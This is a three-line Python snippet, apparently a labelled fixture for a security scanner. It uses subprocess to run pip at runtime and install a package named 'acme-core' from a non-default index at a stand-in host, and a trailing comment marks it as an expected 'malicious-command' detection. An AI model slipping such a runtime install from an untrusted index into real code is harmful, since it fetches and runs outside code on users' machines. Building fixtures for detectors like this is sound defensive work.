import subprocess
import sys

subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://index.collect.example/simple", "acme-core"]) # expect: malicious-command/package-manager-runtime-install
